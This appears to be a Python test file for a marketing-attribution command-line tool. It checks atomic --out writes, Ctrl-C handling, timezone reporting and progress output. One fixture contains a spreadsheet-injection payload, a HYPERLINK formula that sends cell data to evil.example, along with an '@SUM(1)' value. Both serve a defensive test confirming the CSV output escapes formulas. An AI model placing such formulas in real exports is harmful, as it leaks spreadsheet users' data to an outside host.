"""What the command line leaves behind when a person opens its output or stops it: a credit table that a
spreadsheet opens as data, never a half-written --out file, and one line on Ctrl-C."""

from __future__ import annotations

import csv
import io
import re

import pytest

import core.__main__ as cli

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
EVENTS = f"""user_id,timestamp,channel,event_type,value,order_id
u1,2026-05-01T10:00:00Z,"{HOSTILE.replace('"', '""')}",visit,,
u1,2026-05-02T10:00:00Z,email,visit,,
u1,2026-05-03T10:00:00Z,,purchase,120.50,o-1
u2,2026-05-01T09:00:00Z,@SUM(1),visit,,
u2,2026-05-04T09:00:00Z,,purchase,80,o-2
u3,2026-05-02T08:00:00Z,email,visit,,
"""


@pytest.fixture
def events(tmp_path):
    path = tmp_path / "events.csv"
    path.write_text(EVENTS)
    return path


def test_attribute_csv_cannot_run_a_channel_name_as_a_formula(run, events):
    out = run("attribute", str(events), "--models", "first,last", "--csv")
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    channels = {r["channel"] for r in rows}
    assert "'" + HOSTILE in channels and "'@SUM(1)" in channels and "email" in channels
    assert not any(r["channel"][:1] in "=+-@" for r in rows)
    assert sum(float(r["conversions"]) for r in rows if r["model"] == "first") == pytest.approx(2)


def test_paths_out_is_written_whole_or_not_at_all(run, events, tmp_path, monkeypatch):
    out_file = tmp_path / "paths.csv"
    out_file.write_text("path,total_conversions\nprevious,1\n")

    real_fdopen = cli.os.fdopen

    class HalfWriter:
        def __init__(self, fd, mode):
            self.handle = real_fdopen(fd, mode)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.handle.close()

        def write(self, data):
            self.handle.write(data[: len(data) // 2])
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(cli.os, "fdopen", HalfWriter)
    failed = run("paths", str(events), "--out", str(out_file))
    assert failed.returncode == 2 and "No space left" in failed.stderr
    assert out_file.read_text() == "path,total_conversions\nprevious,1\n"  # the old file, untouched
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []

    monkeypatch.setattr(cli.os, "fdopen", real_fdopen)
    done = run("paths", str(events), "--out", str(out_file))
    assert done.returncode == 0, done.stderr
    assert out_file.read_text().startswith("path,")


@pytest.mark.parametrize("where, says", [("", "is a folder"), ("no/such/folder/paths.csv", "does not exist")])
def test_a_bad_out_is_one_line_before_any_work(run, events, tmp_path, where, says):
    out = run("paths", str(events), "--out", str(tmp_path / where))
    assert out.returncode == 2
    assert out.stderr.strip().splitlines() == [next(line for line in out.stderr.splitlines() if says in line)]


def test_ctrl_c_is_one_line_and_the_import_leaves_nothing(run, events, tmp_path, monkeypatch):
    from sqlalchemy import create_engine, text

    import core.ingest as ingest

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(ingest, "save_import", interrupted)
    out = run("import", str(events))
    assert out.returncode == 130
    lines = out.stderr.strip().splitlines()  # progress lines, then one line saying what happened
    assert lines[-1] == "interrupted: python -m core import stopped before it finished; nothing was imported"
    assert all(re.match(r"^\s*\d{1,3}% ", line) for line in lines[:-1]) and "Traceback" not in out.stderr
    engine = create_engine(f"sqlite:///{tmp_path / 'default.db'}")
    with engine.connect() as conn:
        assert conn.execute(text("select count(*) from datasets")).scalar() == 0
    engine.dispose()


def test_the_report_keeps_the_zone_of_times_with_fractions_of_a_second(run, tmp_path):
    """Times written to the millisecond (Snowplow, RudderStack) still say UTC in the report."""
    path = tmp_path / "ms.csv"
    path.write_text(EVENTS.replace("T10:00:00Z", "T10:00:00.027Z").replace("2026-05-01T09:00:00Z", "2026-05-01 09:00:00.5"))
    out = run("import", str(path))
    assert out.returncode == 0, out.stderr
    lines = dict(re.split(r"\s{2,}", line.strip(), maxsplit=1) for line in out.stdout.splitlines()[1:]
                 if re.search(r"\S\s{2,}\S", line))
    assert lines["first date"] == "2026-05-01 09:00:00 UTC"
    assert lines["last date"] == "2026-05-04 09:00:00 UTC"
    path.write_text(EVENTS.replace("2026-05-04T09:00:00Z", "2026-05-04T09:00:00.250Z"))
    assert "last date                            2026-05-04 09:00:00 UTC" in run("import", str(path)).stdout


def test_an_import_shows_its_progress_on_stderr(run, events):
    """A large import is not a silent wait: its stages and percentages go to stderr (the report stays on stdout)."""
    out = run("import", str(events))
    assert out.returncode == 0, out.stderr
    steps = [line for line in out.stderr.splitlines() if re.match(r"^\s*\d{1,3}% \S", line)]
    assert steps and steps[-1].startswith("100% stored data set")
    percents = [int(line.split("%")[0]) for line in steps]
    assert percents == sorted(percents), "the whole import is one scale: reading, then storing"
    assert "%" not in out.stdout.splitlines()[0] and out.stdout.startswith("imported dataset")


def test_progress_on_a_terminal_is_one_line_rewritten_in_place():
    class Terminal(io.StringIO):
        def isatty(self):
            return True

    term = Terminal()
    progress = cli._progress_on_stderr(term)
    for i in range(5):
        progress(i / 4, f"checking and mapping big.csv ({i * 1000:,} rows read)")
    progress.done()
    text = term.getvalue()
    assert "\n" not in text and text.count("\r") == 6 and text.endswith("\r\033[K")
    lines = io.StringIO()
    logged = cli._progress_on_stderr(lines)
    for i in range(101):
        logged(i / 100, f"checking and mapping big.csv ({i * 1000:,} rows read)")
    assert len(lines.getvalue().splitlines()) == 11  # a line per ten percent in a log, not one per block


def test_paths_out_never_overwrites_an_input_file(run, events):
    before = events.read_text()
    out = run("paths", str(events), "--out", str(events))
    assert out.returncode == 2 and "is an input file" in out.stderr
    assert events.read_text() == before
